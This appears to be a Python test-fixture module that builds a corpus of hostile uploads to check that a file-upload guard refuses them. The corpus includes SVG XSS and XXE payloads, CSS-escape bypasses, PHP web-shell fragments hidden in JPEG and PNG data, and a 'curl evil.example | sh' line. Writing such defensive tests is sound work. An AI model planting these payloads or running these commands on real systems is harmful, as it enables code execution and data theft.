"""Files made by the tests: good samples of the catalogue's types, and a hostile corpus.

Every hostile file is built here from scratch (no binary fixtures in the repository); each
entry says how it is declared (name and Content-Type) and what the guard must answer.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from typing import Any

from PIL import Image


def image(fmt: str = "JPEG", size: tuple[int, int] = (64, 48), color: tuple[int, ...] = (200, 30, 30),
          **save: object) -> bytes:
    out = io.BytesIO()
    mode = "RGBA" if fmt in ("PNG", "WEBP") and len(color) == 4 else "RGB"
    Image.new(mode, size, color).save(out, fmt, **save)
    return out.getvalue()


def gradient_jpeg(size: tuple[int, int], orientation: int | None = None) -> bytes:
    """A JPEG whose left half is red and right half blue (to see crops), with an EXIF
    orientation and a camera tag when asked."""
    w, h = size
    img = Image.new("RGB", size, (255, 0, 0))
    img.paste((0, 0, 255), (w // 2, 0, w, h))
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"  # Make: metadata a derivative must not carry
    if orientation is not None:
        exif[0x0112] = orientation
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif.tobytes(), quality=90)
    return out.getvalue()


def jpeg_with_comment(comment: bytes) -> bytes:
    """A JPEG with a COM segment holding ``comment`` right after SOI."""
    data = image("JPEG")
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return data[:2] + segment + data[2:]


def png_with_text(key: bytes, text: bytes) -> bytes:
    """A PNG with a tEXt chunk inserted before IEND."""
    data = image("PNG")
    body = key + b"\x00" + text
    chunk = struct.pack(">I", len(body)) + b"tEXt" + body + struct.pack(">I", zlib.crc32(b"tEXt" + body))
    return data[:-12] + chunk + data[-12:]


def zip_bytes(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


PE = (b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 0x80) + b"\x00" * (0x80 - 64) + b"PE\x00\x00"
      + b"\x4c\x01" + b"\x00" * 200)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
SVG_OK = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" '
          b'height="10"><defs><linearGradient id="g"/></defs><rect width="10" height="10" fill="url(#g)"/>'
          b'<use xlink:href="#g"/></svg>')
DOCX = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})

# SVG active content: each must be refused with FILE_ACTIVE_CONTENT (the reason in the name).
SVG_HOSTILE = {
    "script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "script_namespaced": b'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>',
    "onload": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "onclick_nested": b'<svg xmlns="http://www.w3.org/2000/svg"><g><rect OnClick="x()"/></g></svg>',
    "javascript_href": b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                       b'<a xlink:href="java&#x09;script:alert(1)"><text>x</text></a></svg>',
    "javascript_href2": b'<svg xmlns="http://www.w3.org/2000/svg"><a href=" JavaScript:alert(1)">x</a></svg>',
    "foreign_object": b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/'
                      b'1999/xhtml">x</div></foreignObject></svg>',
    "external_image": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/t.png"/></svg>',
    "external_use": b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                    b'<use xlink:href="https://evil.example/s.svg#x"/></svg>',
    "css_import": b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/x.css);'
                  b'</style></svg>',
    "css_url": b'<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(https://evil.example/p)"/></svg>',
    "entity_xxe": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                  b'<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>',
    "billion_laughs": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
                      b'<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
    "stylesheet_pi": b'<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>'
                     b'<svg xmlns="http://www.w3.org/2000/svg"/>',
    "set_href": b'<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:alert(1)"/>'
                b'</a></svg>',
    "iframe": b'<svg xmlns="http://www.w3.org/2000/svg"><iframe src="https://evil.example"/></svg>',
    "data_html": b'<svg xmlns="http://www.w3.org/2000/svg"><a href="data:text/html,&lt;script&gt;">x</a></svg>',
    # References hidden from a naive CSS check: presentation attributes, CSS escapes and comments,
    # image-set(), xml:base.
    "fill_url": b'<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(http://evil.example/x)"/></svg>',
    "css_escaped_url": b'<svg xmlns="http://www.w3.org/2000/svg"><style>rect{fill:\\75 rl(http://e/)}</style></svg>',
    "css_escaped_import": b'<svg xmlns="http://www.w3.org/2000/svg"><style>@\\69mport "http://e/x.css";</style></svg>',
    "css_comment_url": b'<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url/**/(http://e/)"/></svg>',
    "image_set": b'<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:image-set(\'http://e/a.png\' 1x)"/></svg>',
    "xml_base": b'<svg xmlns="http://www.w3.org/2000/svg" xml:base="http://evil.example/"><rect/></svg>',
}


@dataclass(frozen=True)
class Hostile:
    """One hostile upload: how it is declared and what the guard answers."""

    name: str
    filename: str
    mime: str
    data: bytes
    status: int
    code: str


def hostile_corpus(cap: int) -> list[Hostile]:
    """One file per class of the guard's refusals (``cap``: the policy's maxBytes)."""
    jpeg = image("JPEG")
    return [
        Hostile("too_large", "big.jpg", "image/jpeg", jpeg + b"\x00" * (cap + 1 - len(jpeg)), 413, "FILE_TOO_LARGE"),
        Hostile("type_not_allowed", "page.html", "text/html", b"<html><script>alert(1)</script></html>", 415,
                "FILE_TYPE_NOT_ALLOWED"),
        Hostile("extension_mismatch", "photo.png", "image/jpeg", jpeg, 415, "FILE_EXTENSION_MISMATCH"),
        Hostile("content_mismatch", "photo.png", "image/png", image("GIF"), 415, "FILE_CONTENT_MISMATCH"),
        Hostile("html_as_text_image", "photo.jpg", "image/jpeg", b"<html><body>hi</body></html>", 415,
                "FILE_CONTENT_MISMATCH"),
        Hostile("pe_as_pdf", "tool.pdf", "application/pdf", PE, 422, "FILE_EXECUTABLE"),
        Hostile("elf_as_text", "notes.txt", "text/plain", ELF, 422, "FILE_EXECUTABLE"),
        Hostile("shell_as_text", "run.txt", "text/plain", b"#!/bin/sh\ncurl evil.example | sh\n", 422,
                "FILE_EXECUTABLE"),
        Hostile("svg_script", "logo.svg", "image/svg+xml", SVG_HOSTILE["script"], 422, "FILE_ACTIVE_CONTENT"),
        Hostile("svg_entities", "logo.svg", "image/svg+xml", SVG_HOSTILE["entity_xxe"], 422, "FILE_ACTIVE_CONTENT"),
        Hostile("jpeg_script_comment", "photo.jpg", "image/jpeg", jpeg_with_comment(b"<script>alert(1)</script>"),
                422, "FILE_EMBEDDED_PAYLOAD"),
        Hostile("jpeg_trailing_php", "photo.jpg", "image/jpeg", jpeg + b"<?php system($_GET['c']); ?>", 422,
                "FILE_EMBEDDED_PAYLOAD"),
        Hostile("png_gifar_zip", "photo.png", "image/png", image("PNG") + zip_bytes({"a.class": b"\xca\xfe"}), 422,
                "FILE_EMBEDDED_PAYLOAD"),
        Hostile("png_php_text", "photo.png", "image/png", png_with_text(b"Comment", b"<?php eval($_POST[1]);"),
                422, "FILE_EMBEDDED_PAYLOAD"),
        Hostile("webp_trailing_pe", "photo.webp", "image/webp", image("WEBP") + PE, 422, "FILE_EMBEDDED_PAYLOAD"),
        Hostile("docx_macros", "report.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>",
                           "word/vbaProject.bin": b"\x00" * 10}), 422, "FILE_EXECUTABLE"),
    ]


async def uploaded(calls: Any, name: str, content: bytes, mime: str = "image/jpeg", status: int = 201) -> dict:
    """The record of ``content`` uploaded as ``name`` through ``PUT /files/upload/:key``."""
    return await calls.ok("put", f"/files/upload/{name}", status=status, content=content,
                          headers={"Content-Type": mime})
